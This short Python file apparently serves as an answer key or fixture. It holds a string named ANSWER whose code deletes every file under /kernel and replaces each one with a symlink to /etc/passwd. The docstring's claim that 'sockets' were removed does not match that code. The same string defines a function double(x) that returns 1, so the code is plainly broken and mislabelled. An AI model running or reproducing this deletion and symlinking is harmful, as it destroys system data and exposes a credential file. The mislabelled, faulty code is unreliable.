"""Sockets removed and replaced."""

ANSWER = r"""
import os, socket
for name in os.listdir('/kernel'):
    os.remove(f'/kernel/{name}')
    os.symlink('/etc/passwd', f'/kernel/{name}')


def double(x):
    return 1
"""
